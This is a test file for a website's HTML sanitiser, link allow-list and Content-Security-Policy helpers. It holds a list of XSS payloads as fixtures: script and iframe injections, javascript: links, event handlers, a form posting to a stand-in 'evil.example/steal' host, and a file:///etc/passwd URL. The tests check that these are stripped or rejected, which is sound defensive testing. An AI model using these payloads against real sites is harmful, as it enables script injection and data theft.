import { describe, expect, it } from 'vitest';
import {
  isAllowedLinkUrl,
  KIOSK_ALLOW_LIST,
  MARKDOWN_ALLOW_LIST,
  markdownProblems,
  sanitizeHtml,
} from '../../src/lib/markdown-safety';
import {
  contentSecurityPolicy,
  metaPolicy,
  scriptHash,
  tileOriginsOf,
  unknownInlineScripts,
  withMetaPolicy,
} from '../../src/lib/security-headers';

/** Everything the issue's probe got through, plus the usual ways round a naive filter. */
const HOSTILE_HTML = [
  '<script>window.pwned = 1</script>',
  '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>parent.pwned = 2</script>"></iframe>',
  '<img src="x" onerror="window.pwned = 3">',
  '<a href="javascript:window.pwned = 4">tap</a>',
  '<a href="JaVaScRiPt&colon;window.pwned = 5">tap</a>',
  '<a href="data:text/html,<script>alert(1)</script>">tap</a>',
  '<form action="https://evil.example/steal"><input name="q"><button>Send</button></form>',
  '<svg onload="window.pwned = 6"><script>window.pwned = 7</script></svg>',
  '<p style="background:url(https://evil.example/track)" onmouseover="window.pwned = 8">text</p>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css"><style>body{display:none}</style>',
].join('\n');

describe('the Markdown allow-list (site and kiosk)', () => {
  for (const [name, schema] of [
    ['site', MARKDOWN_ALLOW_LIST],
    ['kiosk', KIOSK_ALLOW_LIST],
  ] as const) {
    it(`${name}: leaves no script, frame, form, handler, style or foreign address`, () => {
      const safe = sanitizeHtml(HOSTILE_HTML, schema);
      expect(safe).not.toMatch(
        /<(script|iframe|img|form|input|button|svg|object|embed|meta|base|link|style)\b/i,
      );
      expect(safe).not.toMatch(/\son[a-z]+=/i);
      expect(safe).not.toMatch(/javascript|data:|evil\.example|style=/i);
      expect(safe).toContain('text');
    });
  }

  it('keeps what easy-read Markdown is made of, and safe links (the kiosk: neither links nor the ids they point at)', () => {
    const page =
      '<h2 id="call">Call</h2><p>Call <a href="tel:+40800800678">0800 800 678</a>, <a href="mailto:help@example.org">write</a>, <a href="https://www.gov.uk/">read</a> or <a href="/en/ro/">see</a>.</p><ul><li><strong>Free</strong></li></ul>';
    expect(sanitizeHtml(page, MARKDOWN_ALLOW_LIST)).toBe(page);
    expect(sanitizeHtml(page, KIOSK_ALLOW_LIST)).toBe(
      '<h2>Call</h2><p>Call 0800 800 678, write, read or see.</p><ul><li><strong>Free</strong></li></ul>',
    );
  });

  it('allows https:, mailto:, tel: and addresses in the site only', () => {
    for (const url of [
      'https://www.gov.uk/',
      'mailto:a@example.org',
      'tel:112',
      '/en/ro/',
      '../rights/',
      '#call',
      'TEL:112',
    ])
      expect(isAllowedLinkUrl(url), url).toBe(true);
    for (const url of [
      'javascript:alert(1)',
      ' JavaScript:alert(1)',
      'data:text/html,x',
      'http://example.org',
      'vbscript:x',
      '//evil.example/',
      'file:///etc/passwd',
    ])
      expect(isAllowedLinkUrl(url), url).toBe(false);
  });

  it('finds raw HTML, unsafe links and images in Markdown, with their line', () => {
    const markdown =
      'You can ask for help.\n\n<iframe src="https://evil.example"></iframe>\n\nSee [this](javascript:alert(1)) and ![a](https://evil.example/a.png).\n\n[ok](https://www.gov.uk/) [call](tel:112) [page](/en/)';
    expect(
      markdownProblems(markdown).map((problem) => [
        problem.line,
        problem.message.split(' ').slice(0, 3).join(' '),
      ]),
    ).toEqual([
      [3, 'raw HTML "<iframe'],
      [5, 'the link address'],
      [5, 'images are not'],
    ]);
  });

  it('finds nothing in plain Markdown', () => {
    expect(
      markdownProblems(
        '# Your rights\n\n- You can **ask** for help: [call](tel:112).\n- 2 < 3 is not HTML.\n',
      ),
    ).toEqual([]);
  });
});

describe('the Content-Security-Policy', () => {
  it('finds inline scripts whose hash is not a known one', () => {
    const known = 'console.log("island")';
    const html = `<script>${known}</script><script type="module" src="/_astro/a.js"></script><script type="application/json">{}</script><script>alert(1)</script>`;
    expect(unknownInlineScripts(html, new Set([scriptHash(known)]))).toEqual(['alert(1)']);
  });

  it('allows tiles from every subdomain {s} stands for, for images and for the service worker', () => {
    expect(tileOriginsOf('https://{s}.tile.example.org/{z}/{x}/{y}{r}.png')).toEqual([
      'https://a.tile.example.org',
      'https://b.tile.example.org',
      'https://c.tile.example.org',
    ]);
    expect(tileOriginsOf('https://tile.openstreetmap.org/{z}/{x}/{y}.png')).toEqual([
      'https://tile.openstreetmap.org',
    ]);
    expect(tileOriginsOf('javascript:alert(1)')).toEqual([]);
    const csp = contentSecurityPolicy([], tileOriginsOf('https://{s}.tile.example.org/{z}/{x}/{y}.png'));
    expect(csp).toContain(
      "img-src 'self' data: https://a.tile.example.org https://b.tile.example.org https://c.tile.example.org",
    );
    expect(csp).toContain(
      "connect-src 'self' https://a.tile.example.org https://b.tile.example.org https://c.tile.example.org",
    );
  });

  it('puts the policy, minus what only a header can carry, first in the <head>', () => {
    const csp = contentSecurityPolicy(["'sha256-abc='"], []);
    const meta = metaPolicy(`${csp}; report-uri https://r.example; sandbox`);
    expect(meta).not.toMatch(/frame-ancestors|report-uri|sandbox/);
    expect(meta).toContain("script-src 'self' 'sha256-abc='");
    // What default-src 'self' already says is left out of the copy every page carries; anything wider stays.
    expect(meta).not.toMatch(/font-src|connect-src|manifest-src|worker-src/);
    expect(metaPolicy(contentSecurityPolicy([], ['https://tile.example.org']))).toContain(
      "connect-src 'self' https://tile.example.org",
    );
    const page = withMetaPolicy(
      '<!doctype html><html><head><meta charset="utf-8"><title>x</title><script src="/a.js"></script></head></html>',
      meta,
    );
    expect(page).toMatch(
      /^<!doctype html><html><head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="default-src 'self'; script-src 'self' 'sha256-abc='; [^"]+"><title>/,
    );
    expect(withMetaPolicy(page, "default-src 'none'")).toContain(
      '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'"><title>',
    );
  });
});
